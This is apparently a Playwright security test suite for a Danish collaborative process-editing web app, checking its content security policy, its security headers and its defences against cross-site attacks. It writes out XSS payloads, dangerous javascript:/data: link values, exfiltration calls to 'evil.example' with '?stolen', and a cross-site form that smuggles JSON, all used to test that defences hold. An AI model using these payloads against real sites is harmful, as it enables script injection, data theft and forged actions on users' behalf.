import type { Browser, BrowserContext, Page } from '@playwright/test';
import * as Y from 'yjs';
import { accountsApi } from '@procesrum/shared/accounts/accounts.api.ts';
import { sectionName } from '@procesrum/shared/collaboration/process-document.ts';
import { editorOf } from '../support/collaboration/editor.ts';
import { demoPerson, processTitled, signInAs, type SignedInProgram } from '../support/demo-people.ts';
import { expect, test } from '../support/journey.ts';
import { webSocketWith } from '../support/collaboration/web-socket-with.ts';

const title = 'Fritagelse for beskatning af fri telefon';

/** What a browser noticed that should not have happened. */
interface Noticed {
  /** Violations of the policy, errors and dialogs, as sentences. */
  readonly complaints: string[];
  /** Addresses asked for outside our own. */
  readonly elsewhere: string[];
}

test('no screen breaks the content policy, the editor with tables and links included', async ({
  browser,
  server,
}) => {
  test.setTimeout(120_000);
  const mette = await signInAs(server.origin, 'Mette Kjær');
  const id = await processTitled(server.origin, mette, title);
  const { context, noticed } = await watched(browser, server.origin, 'Mette Kjær');
  const page = await context.newPage();
  for (const path of [
    '/',
    '/log-ind',
    '/processer',
    '/processer?q=findesikke',
    '/saadan-regner-vi',
    '/nowhere',
  ]) {
    await page.goto(server.origin + path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect([path, await violationsOf(page)]).toEqual([path, []]);
  }
  await page.goto(`${server.origin}/processer/${id}`);
  const section = page.getByRole('textbox', { name: 'Udfordringer' });
  await expect(section).toHaveAttribute('contenteditable', 'true');
  await section.click();
  await page.keyboard.press('ControlOrMeta+End');
  await page.keyboard.press('Enter');
  await page.keyboard.type('Se https://www.kl.dk/ for mere');
  await expect(section.getByRole('link', { name: 'https://www.kl.dk/' })).toBeVisible();
  const toolbar = page.getByRole('toolbar', { name: /Udfordringer/ });
  await toolbar.getByRole('button', { name: /tabel/i }).first().click();
  await expect(section.getByRole('table')).toBeVisible();
  await page.keyboard.type('I en celle');
  await expect(section.getByRole('table')).toContainText('I en celle');
  const room = page.getByRole('group', { name: /^Rummet: hvem kan se/ });
  await room.getByRole('button', { name: /^(Privat|Kommunen|Udvalgte|Alle|Offentlig)/ }).click();
  const dialog = page.getByRole('dialog', { name: 'Del processen' });
  await dialog.getByRole('combobox', { name: 'Se som anden kommune' }).selectOption({ index: 1 });
  await expect(dialog.getByRole('heading').nth(1)).toBeVisible();
  expect(await violationsOf(page)).toEqual([]);
  expect(noticed).toEqual({ complaints: [], elsewhere: [] });
  await context.close();
});

const payload = `"><img src=x onerror="window.hacked=1"><script>window.hacked=1</script>`;

test('script stored in title, summary and text is only text, to its author and to a reader', async ({
  browser,
  server,
}) => {
  test.setTimeout(120_000);
  const mette = await signInAs(server.origin, 'Mette Kjær');
  const id = await storeHostile(server.origin, mette);
  for (const person of ['Mette Kjær', 'Tanja Nørskov']) {
    const { context, noticed } = await watched(browser, server.origin, person);
    const page = await context.newPage();
    await page.goto(`${server.origin}/processer/${id}`);
    await expect(page.getByText('harmless looking').first()).toBeVisible();
    await expect(page.getByText('alert(1)</script>').first()).toBeVisible();
    expect(await page.title()).toContain('<script>');
    const links = await page
      .locator('.ProseMirror a')
      .evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''));
    expect(links.filter((href) => !/^(https?:|mailto:|$)/i.test(href))).toEqual([]);
    const smuggled =
      'script:not([nonce]):not([src]), iframe, object, embed, base, [onerror], [onclick], [srcdoc], svg script';
    expect(await page.locator(`main :is(${smuggled})`).count()).toBe(0);
    // Those that lead to other sites may, when somebody follows them; the others must lead nowhere.
    for (const link of await page.locator('.ProseMirror a:not([href^="http"], [href^="//"])').all()) {
      await link.click({ force: true, noWaitAfter: true });
    }

    await page.goto(`${server.origin}/processer?q=script`);
    await expect(page.getByText('<script>').first()).toBeVisible();
    await page.goto(`${server.origin}/processer?q=${encodeURIComponent(payload)}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(await violationsOf(page)).toEqual([]);
    expect([person, noticed]).toEqual([person, { complaints: [], elsewhere: [] }]);
    await context.close();
  }
});

test('should script get into a page after all, the policy keeps it from running and from calling home', async ({
  browser,
  server,
}) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.addInitScript(collectViolations);
  await page.goto(server.origin);
  await page.evaluate(() => {
    const inline = document.createElement('div');
    inline.innerHTML = '<button id="armed" onclick="window.hacked=1">x</button>';
    document.body.append(inline);
    document.getElementById('armed')?.click();
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/x.js';
    const written = document.createElement('script');
    written.text = 'window.hacked=1';
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(foreign, base, frame, written);
    const image = new Image();
    image.src = 'https://evil.example/?stolen';
    void fetch('https://evil.example/?stolen').catch(() => undefined);
    try {
      new WebSocket('wss://evil.example/');
    } catch {
      // Some browsers throw, some only report.
    }
    // Later, because the debugger, by which this is sent, may evaluate what pages may not.
    setTimeout(() => {
      try {
        new Function('window.hacked=1')();
      } catch {
        // As it should.
      }
    });
  });
  const wanted = ['base-uri', 'connect-src', 'img-src', 'script-src', 'script-src-attr', 'script-src-elem'];
  await expect
    .poll(async () => [...new Set((await violationsOf(page)).map((line) => line.split(' ')[0]))].sort())
    .toEqual(expect.arrayContaining(wanted));
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  await context.close();
});

test('every page carries the headers, with a nonce of its own', async ({ server }) => {
  const nonces = new Set<string>();
  for (const path of ['/', '/log-ind', '/processer', '/saadan-regner-vi', '/nowhere', '/']) {
    const { headers } = await fetch(server.origin + path);
    const policy = headers.get('content-security-policy') ?? '';
    const scripts = policy.split(';').find((part) => part.trim().startsWith('script-src ')) ?? '';
    expect([path, scripts]).toEqual([
      path,
      expect.stringMatching(/^\s*script-src 'self' 'nonce-[^']{16,}'$/),
    ]);
    nonces.add(/'nonce-([^']+)'/.exec(scripts)?.[1] ?? '');
    for (const part of [
      "default-src 'self'",
      "object-src 'none'",
      "base-uri 'none'",
      "frame-ancestors 'none'",
    ]) {
      expect(policy).toContain(part);
    }
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
    expect(Object.fromEntries(headers)).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
    });
    expect(headers.get('x-powered-by')).toBeNull();
    // Nothing to remember where https is not spoken.
    expect(headers.get('strict-transport-security')).toBeNull();
  }
  expect(nonces.size).toBe(6);
});

test('[PE1] the page of another site can neither act, connect nor look in as the person who opens it', async ({
  browser,
  server,
}) => {
  const mette = await signInAs(server.origin, 'Mette Kjær');
  const id = await processTitled(server.origin, mette, title);
  const { context } = await watched(browser, server.origin, 'Mette Kjær');
  const [own] = await context.cookies(server.origin);
  expect(own).toMatchObject({ name: 'procesrum', httpOnly: true, sameSite: 'Lax', path: '/' });
  // A page on the same machine: cookies do not tell ports apart, so that this is the nearest a stranger can stand.
  const evil = 'http://127.0.0.1:9';
  await context.route(`${evil}/**`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<h1>Win!</h1>' }),
  );
  const page = await context.newPage();
  await page.goto(`${evil}/`);
  const outcome = await page.evaluate(
    async ({ origin, document: name }) => {
      const send = (path: string, body?: string) =>
        fetch(origin + path, {
          method: 'POST',
          mode: 'no-cors',
          credentials: 'include',
          ...(body === undefined ? {} : { body, headers: { 'Content-Type': 'text/plain' } }),
        }).catch(() => undefined);
      await send('/api/v1/sign-out');
      await send('/api/v1/processes', '{"title":"Forfalsket"}');
      await send('/api/v1/tickets');
      const read = await fetch(`${origin}/api/v1/processes`, { credentials: 'include' }).then(
        () => 'read',
        () => 'refused',
      );
      const knock = (path: string) =>
        new Promise<string>((resolve) => {
          const socket = new WebSocket(origin.replace('http', 'ws') + path);
          socket.onopen = () => resolve('let in');
          socket.onclose = () => resolve('refused');
        });
      return [
        read,
        await knock(`/collaboration/${name}`),
        await knock('/socket.io/?EIO=4&transport=websocket'),
      ];
    },
    { origin: server.origin, document: `process/${id}` },
  );
  expect(outcome).toEqual(['refused', 'refused', 'refused']);

  await page.setContent(`<form method="post" enctype="text/plain" action="${server.origin}/api/v1/processes">
    <input name='{"title":"Forfalsket","x":"' value='"}'></form>`);
  const [reply] = await Promise.all([
    page.waitForResponse((response) => response.url().startsWith(server.origin)),
    page.evaluate(() => document.forms[0]?.submit()),
  ]);
  expect(reply.status()).toBe(403);

  const frame = await context.newPage();
  await frame.goto(`${evil}/`);
  await frame.setContent(`<iframe src="${server.origin}/processer"></iframe>`);
  await expect.poll(() => frame.frames().at(-1)?.url()).toContain('chrome-error://');

  const still = await context.request.get(`${server.origin}/api/v1/processes?q=Forfalsket`);
  expect([still.status(), ((await still.json()) as { total: number }).total]).toEqual([200, 0]);
  const viewer = (await (
    await context.request.get(server.origin + accountsApi.viewer.path)
  ).json()) as object;
  expect(viewer).toMatchObject({ account: { name: 'Mette Kjær' } });
  await context.close();
});

/** A process whose every text tries to be more than text, written past the editor as a hostile client would. */
async function storeHostile(origin: string, { cookie }: SignedInProgram): Promise<string> {
  const made = await fetch(`${origin}/api/v1/processes`, {
    method: 'POST',
    headers: { Cookie: cookie, 'Content-Type': 'application/json' },
    body: JSON.stringify({
      title: '<script>window.hacked=1</script>',
      summary: '"><img src=x onerror="window.hacked=1">',
      visibility: 'all-municipalities',
    }),
  });
  const { id } = (await made.json()) as { id: string };
  const address = `${origin.replace('http', 'ws')}/collaboration`;
  const editor = editorOf(
    address,
    `process/${id}`,
    new Y.Doc(),
    { v: '1' },
    webSocketWith({ Cookie: cookie }),
  );
  await expect.poll(() => editor.provider.synced).toBe(true);
  editor.document.transact(() => {
    const fragment = editor.document.getXmlFragment(sectionName('challenges'));
    fragment.push([
      paragraph('<script>alert(1)</script>'),
      ...[
        'javascript:window.hacked=1',
        'JaVaScRiPt:window.hacked=1',
        'java\nscript:window.hacked=1',
        ' \u0001javascript:window.hacked=1',
        'data:text/html,<script>window.hacked=1</script>',
        'vbscript:x',
        'https://x" onclick="window.hacked=1',
        '//evil.example/',
      ].map((href) =>
        paragraph('harmless looking', { link: { href, onclick: 'window.hacked=1', target: '_self' } }),
      ),
      hostile(paragraph('with attributes')),
    ]);
  });
  await expect.poll(() => editor.isSaved()).toBe(true);
  editor.close();
  return id;
}

function paragraph(text: string, marks: Record<string, unknown> = {}): Y.XmlElement {
  const element = new Y.XmlElement('paragraph');
  const run = new Y.XmlText();
  run.insert(0, text, marks);
  element.insert(0, [run]);
  return element;
}

function hostile(element: Y.XmlElement): Y.XmlElement {
  for (const name of ['onclick', 'onfocus', 'onerror', 'srcdoc'])
    element.setAttribute(name, 'window.hacked=1');
  element.setAttribute('style', 'background:url(https://evil.example/?stolen)');
  element.setAttribute('class', 'toolbar');
  return element;
}

/** Somebody signed in, in a browser that writes down whatever it is not happy with. */
async function watched(
  browser: Browser,
  origin: string,
  person: string,
): Promise<{ context: BrowserContext; noticed: Noticed }> {
  const context = await browser.newContext();
  const { id } = await demoPerson(origin, person);
  await context.request.post(origin + accountsApi.demoSignIn.path, { data: { account: id } });
  const noticed: Noticed = { complaints: [], elsewhere: [] };
  await context.addInitScript(collectViolations);
  context.on('console', (message) => {
    if (/Content Security Policy|Refused to|Permissions-Policy/i.test(message.text())) {
      noticed.complaints.push(message.text());
    }
  });
  context.on('dialog', (dialog) => {
    noticed.complaints.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('weberror', (error) => noticed.complaints.push(`an error: ${error.error().message}`));
  context.on('request', (request) => {
    const address = request.url();
    if (!/^(data|blob):/.test(address) && !address.startsWith(`${origin}/`)) noticed.elsewhere.push(address);
  });
  return { context, noticed };
}

/** Runs in the page before anything of its own. */
function collectViolations(): void {
  const all: string[] = [];
  Object.assign(window, { violations: all });
  document.addEventListener('securitypolicyviolation', (event) => {
    all.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
  });
}

function violationsOf(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { violations: string[] }).violations);
}
